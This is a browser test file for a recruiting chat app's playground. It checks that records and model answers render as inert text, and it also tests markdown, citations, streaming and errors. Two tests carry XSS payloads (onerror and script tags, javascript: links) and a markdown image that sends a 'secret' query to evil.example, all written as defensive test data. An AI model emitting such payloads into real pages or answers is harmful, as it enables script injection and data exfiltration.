import { beforeEach, describe, expect, test, vi } from "vitest";
import { type Match, RolecallError, type TurnEvent } from "../../engine/index.ts";
import { CANDIDATE_MATCH, JOB_MATCH } from "../protocol/testing/full-conversation.ts";
import { words } from "../testing/scripted-engine.ts";
import { WITHOUT_BROWSER } from "./testing/chromium.ts";
import { scriptedPlayground } from "./testing/playground-server.ts";
import { visits } from "./testing/visits.ts";
import type { Visitor } from "./testing/visitor.ts";

const IMAGE = "<img src=x onerror=alert(1)>";
const SCRIPT = "<script>alert(1)</script>";

type JobMatch = Extract<Match, { kind: "job" }>;
type CandidateMatch = Extract<Match, { kind: "candidate" }>;
const JOB = JOB_MATCH as JobMatch;
const CANDIDATE = CANDIDATE_MATCH as CandidateMatch;

const found = (...items: Match[]): TurnEvent => ({
  type: "matches-found",
  payloadType: items[0]?.kind === "candidate" ? "candidates" : "jobs",
  indexVersion: "1",
  degraded: [],
  items: items.map((match, index) => ({ ...match, rank: index + 1, id: `${index + 1}`.padStart(24, "0") })),
});

describe.skipIf(WITHOUT_BROWSER)("what the playground shows of records and answers (skipped where there is no Chromium)", { timeout: 120_000 }, () => {
  const on = visits(scriptedPlayground);
  let visitor: Visitor;
  let sessionId: string;
  beforeEach(async () => {
    visitor = await on.visit();
    await visitor.ask("hello");
    await visitor.answer.waitFor();
    sessionId = on.server.engine.submitted[0]!.sessionId!;
  });

  const tell = (...events: TurnEvent[]) => on.server.engine.tell(sessionId, ...events);
  const finish = async () => {
    on.server.engine.finish(sessionId);
    await visitor.answered();
  };

  test("HTML in records stays text", async () => {
    const hostile: Match = {
      ...JOB,
      title: IMAGE,
      matched: [SCRIPT],
      missing: [IMAGE],
      reasons: [{ field: IMAGE, text: SCRIPT }],
      record: { ...JOB.record, company: SCRIPT, location: { city: IMAGE } },
    };
    tell(found(hostile), { type: "notice", code: IMAGE, text: SCRIPT }, { type: "title", title: IMAGE }, words(`It is ${IMAGE} [1].`));
    await finish();
    await visitor.answer.getByText("Why").click();
    expect(await visitor.answer.locator("h4").textContent()).toBe(IMAGE);
    expect(await visitor.answer.locator(".facts").textContent()).toContain(SCRIPT);
    expect(await visitor.answer.locator(".reasons li").textContent()).toBe(`${IMAGE} ${SCRIPT}`);
    expect(await visitor.answer.locator(".notices li").textContent()).toBe(`${IMAGE} ${SCRIPT}`);
    expect(await visitor.words()).toBe(`It is ${IMAGE} 1.`);
    await visitor.events();
    expect(await visitor.page.locator("body :is(img, script, iframe, object)").count()).toBe(0);
  });

  test("an answer neither loads nor leads anywhere", async () => {
    const answer = [
      "![a picture](https://evil.example/p.png?q=secret)",
      "[click](javascript:alert(1)) or [here](https://evil.example/) or https://evil.example/auto",
      `<a href="https://evil.example">link</a> ${SCRIPT}`,
      `<iframe src="https://evil.example"></iframe>`,
      "[1]: https://evil.example/defined",
    ];
    tell(found(JOB), words(answer.join("\n\n")));
    await finish();
    const said = visitor.answer.locator(".words");
    expect(await said.locator("a, img, script, iframe").count()).toBe(0);
    expect(await said.textContent()).toContain("a picture (https://evil.example/p.png?q=secret)");
    expect(await said.textContent()).toContain("click (javascript:alert(1))");
    expect(await said.textContent()).toContain('<a href="https://evil.example">link</a>');
  });

  test("markdown is set: headings, lists, emphasis, code, tables", async () => {
    tell(
      words(
        "## Best\n\n1. **Strong** and *soft* `code`\n   - within\n2. second\n\n> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nlet x\n```\n\nOne & two < three",
      ),
    );
    await finish();
    const said = visitor.answer.locator(".words");
    expect(await said.locator(".heading").textContent()).toBe("Best");
    expect(await said.locator("ol > li").count()).toBe(2);
    expect(await said.locator("ol ul li").textContent()).toBe("within");
    expect(await said.locator("strong, em, li code").allTextContents()).toEqual(["Strong", "soft", "code"]);
    expect(await said.locator("blockquote").textContent()).toBe("quoted");
    expect(await said.locator("td").allTextContents()).toEqual(["1", "2"]);
    expect(await said.locator("pre").textContent()).toBe("let x");
    expect(await said.locator("p").last().textContent()).toBe("One & two < three");
  });

  test("only what is listed is cited, each by its number", async () => {
    tell(found(JOB, { ...JOB, title: "Second" }), words("Take [2], or both [1, 2], but not [7] nor item[0]."));
    await finish();
    expect(await visitor.answer.locator(".citation").evaluateAll((links) => links.map((link) => [link.textContent, link.getAttribute("title")]))).toEqual([
      ["2", "Second"],
      ["1", "Senior Frontend Engineer"],
      ["2", "Second"],
    ]);
    expect(await visitor.words()).toContain("but not [7] nor item[0].");
  });

  test("the words that are there stay as they are while others come", async () => {
    tell(words("First paragraph.\n\nSecond"));
    const first = visitor.answer.locator(".words p").first();
    await first.waitFor();
    await first.evaluate((paragraph) => paragraph.setAttribute("data-kept", ""));
    tell(words(" grows."));
    await visitor.answer.locator(".words p", { hasText: "Second grows." }).waitFor();
    expect(await first.getAttribute("data-kept")).toBe("");
  });

  test("a candidate, and a score that nobody knows", async () => {
    const experience = [{ title: "Charge nurse", company: "St. Georg", start: "2019-03" }];
    const desired_salary = { min: 48_000, currency: "EUR", period: "year" as const };
    tell(found({ ...CANDIDATE, score: null, record: { ...CANDIDATE.record, experience, desired_salary } }));
    const card = visitor.answer.locator(".card");
    expect(await card.locator(".facts").textContent()).toBe("Charge nurse at St. Georg · asks EUR 48,000 a year and more");
    expect(await card.locator(".score").textContent()).toBe("not enough known");
    expect(await card.locator(".score .bar").count()).toBe(0);
  });

  test("what is going on is said until there is an answer", async () => {
    tell({ type: "step-start", step: "retrieve" });
    await visitor.answer.locator(".activity", { hasText: "Searching" }).waitFor();
    tell({ type: "tool-call", callId: "c", name: "search_jobs", input: {} });
    await visitor.answer.locator(".activity", { hasText: "Asking search jobs" }).waitFor();
    await finish();
    expect(await visitor.answer.locator(".activity").isVisible()).toBe(false);
  });

  test("a failure says what happened and what helps, and keeps what was there", async () => {
    tell(found(JOB), words("Half an answer"), {
      type: "turn-error",
      code: "model_unavailable",
      message: "The model did not answer.",
      hint: "Send it again.",
      retryable: true,
    });
    await visitor.answer.locator(".failure").waitFor();
    expect(await visitor.answer.locator(".failure").textContent()).toBe("The model did not answer. Send it again. model_unavailable");
    expect(await visitor.words()).toBe("Half an answer");
    expect(await visitor.answer.locator(".card").count()).toBe(1);
  });

  test("a message that is refused comes back to be sent again", async () => {
    await finish();
    on.server.engine.failure = new RolecallError("session_ended", "This session has ended.", { hint: "Open a new one." });
    await visitor.page.getByLabel("Message", { exact: true }).fill("once more");
    await visitor.page.keyboard.press("Enter");
    await visitor.page.getByRole("alert").getByText("This session has ended. Open a new one.").waitFor();
    expect(await visitor.page.getByLabel("Message", { exact: true }).inputValue()).toBe("once more");
    await vi.waitFor(async () => expect(await visitor.page.locator(".question").count()).toBe(1), { timeout: 20_000 });
  });

  test("a session that is deleted elsewhere is left", async () => {
    tell(words("So far"));
    await visitor.answer.locator(".words", { hasText: "So far" }).waitFor();
    on.server.engine.remove(sessionId);
    await visitor.page.getByText("Ask as you would ask a recruiter.").waitFor();
    await visitor.page.getByRole("alert").getByText("This session was deleted.").waitFor();
  });
});
